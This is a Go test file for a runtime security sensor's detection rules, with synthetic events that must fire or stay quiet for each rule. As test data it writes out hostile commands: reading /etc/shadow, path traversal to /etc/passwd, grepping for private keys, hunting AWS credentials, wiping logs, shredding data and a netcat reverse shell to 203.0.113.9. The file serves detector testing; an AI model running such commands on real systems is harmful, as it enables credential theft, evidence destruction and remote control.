package rules

import (
	"bytes"
	"encoding/json"
	"errors"
	"flag"
	"maps"
	"net/netip"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/lookout-sec/lookout/router/api"
	"github.com/lookout-sec/lookout/sensor/internal/event"
	"github.com/lookout-sec/lookout/sensor/internal/ruleset"
)

var update = flag.Bool("update", false, "rewrite the golden files in testdata/alerts")

func with(p *event.Process, f func(p *event.Process)) *event.Process { f(p); return p }

func ptraceEvent(p *event.Process, req uint64) *event.Event {
	return &event.Event{Num: 45, Type: event.TypePtrace, TS: testTS, TID: p.TID, PID: p.PID, Proc: p,
		Args: []event.Arg{
			{Name: "res", Kind: event.ArgErrno},
			{Name: "addr", Kind: event.ArgUint},
			{Name: "data", Kind: event.ArgUint},
			{Name: "request", Kind: event.ArgFlags, Flags: event.FlagsPtraceRequest, Uint: req},
			{Name: "pid", Kind: event.ArgInt, Int: 4242},
		}}
}

func symlinkEvent(p *event.Process, target, linkpath string) *event.Event {
	return &event.Event{Num: 46, Type: event.TypeSymlinkat, TS: testTS, TID: p.TID, PID: p.PID, Proc: p,
		Args: []event.Arg{
			{Name: "res", Kind: event.ArgErrno},
			{Name: "target", Kind: event.ArgString, Str: target},
			{Name: "linkdirfd", Kind: event.ArgFD, Int: -100},
			{Name: "linkpath", Kind: event.ArgString, Str: linkpath},
		}}
}

func linkEvent(p *event.Process, oldpath, newpath string) *event.Event {
	return &event.Event{Num: 47, Type: event.TypeLinkat, TS: testTS, TID: p.TID, PID: p.PID, Proc: p,
		Args: []event.Arg{
			{Name: "res", Kind: event.ArgErrno},
			{Name: "olddir", Kind: event.ArgFD, Int: -100},
			{Name: "oldpath", Kind: event.ArgString, Str: oldpath},
			{Name: "newdir", Kind: event.ArgFD, Int: -100},
			{Name: "newpath", Kind: event.ArgString, Str: newpath},
			{Name: "flags", Kind: event.ArgFlags, Flags: event.FlagsLinkat},
		}}
}

// hostCmd is a command run from the interactive root shell on the host.
func hostCmd(name, exepath string, args ...string) *event.Process {
	return mkProc(procSpec{pid: 1100, name: name, exepath: exepath, args: args, tty: 34816, login: userRoot}, hostChain())
}

// ctrCmd is a command in testContainer whose parent is runc.
func ctrCmd(name, exepath string, tty uint32, args ...string) *event.Process {
	return mkProc(procSpec{pid: 2200, name: name, exepath: exepath, args: args, tty: tty}, containerChain())
}

const (
	oRDONLY = 0
	oWRONLY = 1
	oTRUNC  = 0o1000
	oAPPEND = 0o2000
	oCREAT  = 0o100
)

type goldenCase struct {
	rule  string
	fire  *event.Event // must raise rule; its alerts are the golden file
	quiet *event.Event // must not raise rule
}

func goldenCases() []goldenCase {
	nginx := func() *event.Process {
		return mkProc(procSpec{pid: 1300, name: "nginx", exepath: "/usr/sbin/nginx", args: []string{"-g", "daemon off;"},
			user: userRoot}, mkProc(procSpec{pid: 1, name: "systemd", exepath: "/usr/lib/systemd/systemd"}, nil))
	}
	return []goldenCase{
		{rule: "Read sensitive file untrusted",
			fire:  openEvent(hostCmd("cat", "/usr/bin/cat", "/etc/shadow"), "/etc/shadow", "/etc/shadow", oRDONLY, 3),
			quiet: openEvent(hostCmd("sshd", "/usr/sbin/sshd", "-D"), "/etc/shadow", "/etc/shadow", oRDONLY, 3)},
		{rule: "Directory traversal monitored file read",
			fire: openEvent(mkProc(procSpec{pid: 1400, name: "php-fpm", exepath: "/usr/sbin/php-fpm"}, nginx()),
				"/var/www/html/../../../etc/passwd", "/etc/passwd", oRDONLY, 5),
			quiet: openEvent(hostCmd("cat", "/usr/bin/cat", "../../../etc/passwd"), "../../../etc/passwd", "/etc/passwd", oRDONLY, 3)},
		{rule: "Create Symlink Over Sensitive Files",
			fire:  symlinkEvent(hostCmd("ln", "/usr/bin/ln", "-s", "/etc/shadow", "/tmp/sh"), "/etc/shadow", "/tmp/sh"),
			quiet: symlinkEvent(hostCmd("ln", "/usr/bin/ln", "-s", "/etc/hosts", "/tmp/h"), "/etc/hosts", "/tmp/h")},
		{rule: "Create Hardlink Over Sensitive Files",
			fire:  linkEvent(hostCmd("ln", "/usr/bin/ln", "/etc/shadow", "/tmp/sh"), "/etc/shadow", "/tmp/sh"),
			quiet: linkEvent(hostCmd("ln", "/usr/bin/ln", "/etc/hosts", "/tmp/h"), "/etc/hosts", "/tmp/h")},
		{rule: "Search Private Keys or Passwords",
			fire:  execEvent(hostCmd("grep", "/usr/bin/grep", "-r", "BEGIN RSA PRIVATE", "/home")),
			quiet: execEvent(hostCmd("grep", "/usr/bin/grep", "-r", "TODO", "/home"))},
		{rule: "Clear Log Activities",
			fire:  openEvent(hostCmd("bash", "/usr/bin/bash"), "/var/log/syslog", "/var/log/syslog", oWRONLY|oCREAT|oTRUNC, 4),
			quiet: openEvent(hostCmd("bash", "/usr/bin/bash"), "/var/log/syslog", "/var/log/syslog", oWRONLY|oAPPEND, 4)},
		{rule: "Remove Bulk Data from Disk",
			fire:  execEvent(hostCmd("shred", "/usr/bin/shred", "-u", "/srv/data.db")),
			quiet: execEvent(hostCmd("rm", "/usr/bin/rm", "-f", "/srv/data.db"))},
		{rule: "Run shell untrusted",
			fire:  execEvent(mkProc(procSpec{pid: 1500, name: "sh", exepath: "/usr/bin/sh", exe: "sh", args: []string{"-c", "id; uname -a"}}, nginx())),
			quiet: execEvent(mkProc(procSpec{pid: 1500, name: "sh", exepath: "/usr/bin/sh", exe: "sh", args: []string{"-c", "whoami"}}, nginx()))},
		{rule: "PTRACE attached to process",
			fire:  ptraceEvent(hostCmd("gdb", "/usr/bin/gdb", "-p", "4242"), 16),
			quiet: ptraceEvent(hostCmd("gdb", "/usr/bin/gdb", "-p", "4242"), 2)},
		{rule: "Fileless execution via memfd_create",
			fire: execEvent(with(hostCmd("payload", "memfd:payload (deleted)"), func(p *event.Process) { p.ExeMemfd = true })),
			quiet: execEvent(with(ctrCmd("runc", "memfd:runc_cloned:/proc/self/exe", 0, "init"), func(p *event.Process) {
				p.ExeMemfd = true
			}))},
		{rule: "Execution from /dev/shm",
			fire:  execEvent(hostCmd("evil", "/dev/shm/evil")),
			quiet: execEvent(with(hostCmd("ls", "/usr/bin/ls", "-l"), func(p *event.Process) { p.Cwd = "/dev/shm/" }))},
		{rule: "Find AWS Credentials",
			fire:  execEvent(hostCmd("find", "/usr/bin/find", "/", "-path", "*/.aws/credentials")),
			quiet: execEvent(hostCmd("find", "/usr/bin/find", "/", "-name", "*.log"))},
		{rule: "System user interactive",
			fire:  execEvent(with(hostCmd("ls", "/usr/bin/ls"), func(p *event.Process) { p.User, p.UID = userDaemon, userDaemon.UID })),
			quiet: execEvent(with(hostCmd("ls", "/usr/bin/ls"), func(p *event.Process) { p.User, p.UID = userAlice, userAlice.UID }))},
		{rule: "Netcat Remote Code Execution in Container",
			fire:  execEvent(ctrCmd("nc", "/usr/bin/nc", 0, "-e", "/bin/sh", "203.0.113.9", "4444")),
			quiet: execEvent(hostCmd("nc", "/usr/bin/nc", "-e", "/bin/sh", "203.0.113.9", "4444"))},
		{rule: "Terminal shell in container",
			fire:  execEvent(ctrCmd("sh", "/bin/busybox", 34816)),
			quiet: execEvent(ctrCmd("sh", "/bin/busybox", 0))},
	}
}

func slug(s string) string {
	s = strings.ToLower(s)
	return strings.Map(func(r rune) rune {
		if r >= 'a' && r <= 'z' || r >= '0' && r <= '9' {
			return r
		}
		return '_'
	}, s)
}

// TestGoldenAlerts evaluates synthetic events against the upstream rules
// (24 of the 25 stable rules; "Contact K8S API Server From Container"
// needs a DNS lookup, see TestK8sAPIRule)
// (rule_matching: all): each fire event must raise its rule and its alerts
// must equal testdata/alerts/<rule>.json; each quiet event must not raise
// it.
func TestGoldenAlerts(t *testing.T) {
	e := loadDefault(t, MatchAll)
	for _, c := range append(goldenCases(), moreGoldenCases()...) {
		t.Run(slug(c.rule), func(t *testing.T) {
			checkGolden(t, c.rule, evalAll(e, c.fire))
			if q := evalAll(e, c.quiet); slices.Contains(ruleNames(q), c.rule) {
				t.Errorf("quiet event raised %q", c.rule)
			}
		})
	}
}

// checkGolden checks that rule is among the alerts and that the alerts
// equal testdata/alerts/<rule>.json (-update rewrites it).
func checkGolden(t *testing.T, rule string, got []*api.Alert) {
	t.Helper()
	if !slices.Contains(ruleNames(got), rule) {
		t.Fatalf("fire event raised %q, want %q among them", ruleNames(got), rule)
	}
	var buf bytes.Buffer
	for _, a := range got {
		b, err := json.Marshal(a)
		if err != nil {
			t.Fatal(err)
		}
		if err := json.Indent(&buf, b, "", "  "); err != nil {
			t.Fatal(err)
		}
		buf.WriteByte('\n')
	}
	path := filepath.Join("testdata", "alerts", slug(rule)+".json")
	if *update {
		if err := os.WriteFile(path, buf.Bytes(), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	want, err := os.ReadFile(path)
	if err != nil {
		t.Fatalf("%v (run with -update to create it)", err)
	}
	if buf.String() != string(want) {
		t.Errorf("alerts differ from %s:\ngot:\n%s\nwant:\n%s", path, buf.String(), want)
	}
}

// TestK8sAPIRule checks fd.sip.name: without LookupIP the rule cannot
// fire; with it, a container connecting to the resolved address raises the
// golden alert and one connecting elsewhere does not.
func TestK8sAPIRule(t *testing.T) {
	ev := func(dst string) *event.Event { return connectEvent(ctrCmd("curl", "/usr/bin/curl", 0), dst) }
	e := loadDefault(t, MatchAll)
	if got := ruleNames(evalAll(e, ev("10.96.0.1:443"))); len(got) != 0 {
		t.Errorf("without LookupIP: raised %q", got)
	}
	var asked []string
	lookup := func(host string) ([]netip.Addr, error) {
		asked = append(asked, host)
		return []netip.Addr{netip.MustParseAddr("10.96.0.1")}, nil
	}
	e, _, err := Load([]Source{{Name: ruleset.DefaultName, Data: ruleset.Default}},
		Options{MinPriority: api.PriorityDebug, Matching: MatchAll, Fields: utcTable(), Hostname: "test-host", LookupIP: lookup})
	if err != nil {
		t.Fatal(err)
	}
	if !slices.Equal(asked, []string{"kubernetes.default.svc.cluster.local"}) {
		t.Errorf("looked up %q", asked)
	}
	checkGolden(t, "Contact K8S API Server From Container", evalAll(e, ev("10.96.0.1:443")))
	if got := ruleNames(evalAll(e, ev("10.96.0.2:443"))); len(got) != 0 {
		t.Errorf("other address: raised %q", got)
	}
}

// TestLookupIPOncePerName checks that a host named by several rules is
// resolved once per load, and that a failed lookup gives one warning.
func TestLookupIPOncePerName(t *testing.T) {
	src := []byte(`
- macro: to_api
  condition: fd.sip.name = "api.example"
- rule: A
  desc: a
  condition: evt.type = connect and to_api
  output: a
  priority: WARNING
- rule: B
  desc: b
  condition: evt.type = connect and fd.sip.name in ("api.example", other.example)
  output: b
  priority: WARNING
`)
	calls := map[string]int{}
	lookup := func(host string) ([]netip.Addr, error) {
		calls[host]++
		return nil, errors.New("no such host")
	}
	_, rep, err := Load([]Source{{Name: "lookup.yaml", Data: src}},
		Options{MinPriority: api.PriorityDebug, Fields: utcTable(), LookupIP: lookup})
	if err != nil {
		t.Fatal(err)
	}
	if want := map[string]int{"api.example": 1, "other.example": 1}; !maps.Equal(calls, want) {
		t.Errorf("lookups = %v, want %v", calls, want)
	}
	n := 0
	for _, w := range rep.Notes {
		if strings.Contains(w, `cannot resolve "api.example"`) {
			n++
		}
	}
	if n != 1 {
		t.Errorf("%d notes for api.example, want 1: %q", n, rep.Notes)
	}
}
